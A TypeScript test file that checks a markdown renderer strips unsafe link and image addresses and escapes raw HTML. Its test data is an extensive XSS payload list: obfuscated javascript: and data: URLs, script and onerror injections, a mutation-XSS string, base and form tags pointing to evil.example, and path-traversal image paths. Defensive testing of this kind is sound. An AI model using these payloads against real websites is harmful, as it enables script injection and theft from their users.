import { describe, expect, it } from 'vitest'
import { readStrictly } from '#server/test/strict-html.ts'
import { readText } from './read-text.ts'
import { writeHtml } from './write-html.ts'

const site = 'https://dendro.test'
const media = {
  urls: (key: string) => ({
    get_image: `${site}/media/${key}-1280.webp`,
    get_thumbnail: `${site}/media/${key}-640.webp`,
  }),
}
const picture = `/media/ab/${'0123456789abcdef'.repeat(2)}-1280.webp`
const htmlOf = (text: string) => writeHtml(readText(text), media)

/** The tags and addresses in the HTML of a text; checks every address as a browser resolves it. */
function readSafely(text: string) {
  const read = readStrictly(htmlOf(text))
  for (const href of read.links) {
    const { protocol, origin } = new URL(href, `${site}/publications/ely`)
    expect(protocol, href).toMatch(/^(?:https?|mailto):$/)
    if (href.startsWith('/')) expect(origin, href).toBe(site)
  }
  for (const src of read.pictures) expect(src).toMatch(/^https:\/\/dendro\.test\/media\/[0-9a-f/]+-1280\.webp$/)
  return read
}

const places: [where: string, write: (address: string) => string][] = [
  ['a link', address => `[ель](${address})`],
  ['a link in brackets', address => `[ель](<${address}>)`],
  ['a link with a title', address => `[ель](<${address}> "x")`],
  ['a reference', address => `[ель][e]\n\n[e]: <${address}>`],
  ['a short reference', address => `[ель]\n\n[ель]: ${address} 'x'`],
  ['an autolink', address => `<${address}>`],
  ['a picture', address => `![ель](<${address}>)`],
  ['a picture in a line', address => `Вот ![ель](<${address}> "подпись") она`],
  ['a picture by reference', address => `![ель][e]\n\n[e]: <${address}> "подпись"`],
  ['a linked picture', address => `[![ель](${picture})](<${address}>)`],
  ['a table', address => `| a |\n| - |\n| [ель](<${address}>) |`],
  ["a table's head", address => `| [ель](<${address}>) |\n| - |`],
  ['a heading', address => `## [ель](<${address}>)`],
  ['a list', address => `- 1. [ель](<${address}>)`],
  ['a quotation', address => `> **[ель](<${address}>)**`],
]

const script = 'javascript:alert(1)'
const wrongAddresses = [
  script,
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java\tscript:alert(1)',
  'java&#x0a;script:alert(1)',
  'java\u0000script:alert(1)',
  '&#1;javascript:alert(1)',
  '\u001fjavascript:alert(1)',
  '&nbsp;javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  '  javascript:alert(1)',
  'javascript\\:alert(1)',
  'javascript:%61lert(1)//https://dendro.test',
  'view-source:javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,%3Csvg onload=alert(1)%3E',
  'vbscript:msgbox(1)',
  'VBScript&#58;msgbox(1)',
  'file:///etc/passwd',
  'blob:https://dendro.test/1',
  '//evil.example/x',
  '/\\evil.example/x',
  '/&Tab;/evil.example/x',
  '\\\\evil.example',
  'https:evil.example',
  'https:///evil.example',
  'http://',
  'mailto:',
  'evil.html',
]

describe('addresses', () => {
  it.each(places)('of a forbidden kind are removed from %s', (_, write) => {
    for (const address of wrongAddresses) {
      const { links, pictures } = readSafely(write(address))
      expect(links, address).toEqual([])
      expect(
        pictures.filter(src => !src.includes('0123456789')),
        address,
      ).toEqual([])
    }
  })

  it.each([
    ['https://dendro.test"onmouseover="alert(1)', 'https://dendro.test"onmouseover="alert(1)'],
    ["/products/rozy'onclick='alert(1)", "/products/rozy'onclick='alert(1)"],
    ['/a"><script>alert(1)</script>', '/a"><script>alert(1)</script>'],
    ['HTTPS://dendro.test/?a=1&amp;b=2', 'HTTPS://dendro.test/?a=1&b=2'],
    ['mailto:post@dendro.test', 'mailto:post@dendro.test'],
    ['/products/розы?зона=4#ель', '/products/розы?зона=4#ель'],
  ])('of an allowed kind are unchanged, including quotes: %s', (address, href) => {
    const escaped = address.replace(/[<>]/g, letter => `\\${letter}`)
    expect(readSafely(`[ель](<${escaped}>)`).links).toEqual([href])
  })

  it('of other sites, and only those, are marked for search engines not to follow', () => {
    expect(htmlOf('[a](https://a.example/) [b](/b) [c](mailto:c@c.example)')).toBe(
      '<p><a href="https://a.example/" rel="nofollow noopener">a</a> <a href="/b">b</a> <a href="mailto:c@c.example" rel="nofollow noopener">c</a></p>',
    )
  })

  it('of pictures are only those of the media store', () => {
    const [path = ''] = picture.split('-1280')
    for (const address of [
      `https://evil.example${picture}`,
      `//evil.example${picture}`,
      `${picture}?x`,
      `${picture}#x`,
      `/..${picture}`,
      `${path}-1280.svg`,
      `${path.toUpperCase()}-1280.webp`,
      '/media/ab/../../secret-key-320.webp',
    ]) {
      const { pictures, text } = readSafely(`![ель](<${address}>)`)
      expect([pictures, text.trim()], address).toEqual([[], 'ель'])
    }
    expect(readSafely(`![ель](${picture})`).pictures).toEqual([`${site}${picture}`])
  })
})

const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)" onclick="alert(1)">ель</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<!-- --><b onmouseover=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<!DOCTYPE html>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '</p></article></main>',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=password>',
  `"'><img src=x onerror=alert(1)>`,
]

describe('raw HTML', () => {
  it.each(markup)('is shown as it was typed: %s', html => {
    for (const text of [html, `Ель ${html} ель`, `- ${html}`, `> ${html}`, `\`${html.replaceAll('`', '')}\``]) {
      const read = readSafely(text)
      expect(read.text).toContain(html)
      expect([read.links, read.pictures]).toEqual([[], []])
    }
    expect(readSafely(`## ${html}`).text).toContain(html)
    expect(readSafely(`| ель |\n| - |\n| ${html} |`).text).toContain(html)
    expect(readSafely(`\`\`\`${html.replaceAll(/[`\n]/g, '')}\n${html}\n\`\`\``).text).toContain(html)
    expect(readSafely(`    ${html}`).text).toContain(html)
  })

  it.each(markup)('is plain text in the description of a picture: %s', html => {
    const quoted = html.replace(/["\\[\]]/g, letter => `\\${letter}`)
    const { text, pictures } = readSafely(`![${quoted}](${picture} "${quoted}")`)
    expect(pictures).toEqual([`${site}${picture}`])
    expect(text).toContain(html)
    expect(htmlOf(`![${quoted}](${picture} "${quoted}")`)).toMatch(
      /^<figure><picture><source [^<>]+><img [^<>]+><\/picture><figcaption>/,
    )
  })

  it('written as entities is plain text too', () => {
    expect(htmlOf('&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt;')).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;b&gt; &amp;lt;</p>',
    )
  })
})

/** The same numbers in every run. */
function* numbers(seed: number): Generator<number> {
  for (let state = seed; ;) {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    yield state / 2 ** 32
  }
}

it('no combination of pieces of markup yields another tag or address', () => {
  const pieces = [
    ...markup,
    ...wrongAddresses,
    ...['*', '**', '_', '`', '``', '[', '](', ')', '![', '<', '>', '"', "'", '\\', '|', '\n', '\n\n', ' ', '    '],
    ...['- ', '> ', '1. ', '# ', '|-|\n', '\n[e]: ', '[e]', '```\n', '&', '&#', ';', 'ель', picture, '\u0000'],
  ]
  const next = numbers(7)
  const draw = () => pieces[Math.floor((next.next().value as number) * pieces.length)] ?? ''
  let tags = 0
  for (let text = 0; text < 400; text++) {
    const typed = Array.from({ length: 40 }, draw).join('')
    readSafely(typed)
    tags += htmlOf(typed).split('<').length
  }
  expect(tags).toBeGreaterThan(2000)
})

describe('the strict reader of HTML', () => {
  it.each([
    '<p onclick="x">a</p>',
    '<script>',
    '<p>a',
    '</p>',
    '<p>a<b</p>',
    '<p>a & b</p>',
    '<p>"</p>',
    '<a href="/" target="x">a</a>',
    '<p><em>a</p></em>',
    '<!-- -->',
    '<td style="color:red">a</td>',
    '<img src="x">',
  ])('rejects any other HTML: %s', html => {
    expect(() => readStrictly(html)).toThrow()
  })
})
